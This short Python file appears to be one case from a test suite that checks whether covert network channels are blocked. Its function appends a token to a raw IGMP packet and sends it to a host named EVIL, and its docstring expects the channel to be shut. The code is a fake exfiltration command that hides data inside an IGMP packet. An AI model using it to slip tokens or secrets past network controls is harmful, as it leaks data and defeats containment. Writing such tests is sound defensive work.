"""
how: IGMP with a message in it
expect: shut
"""

from land import EVIL
from sockets import raw


def attempt(token):
    return raw(EVIL, 2, b"\x11\0\0\0" + token.encode())
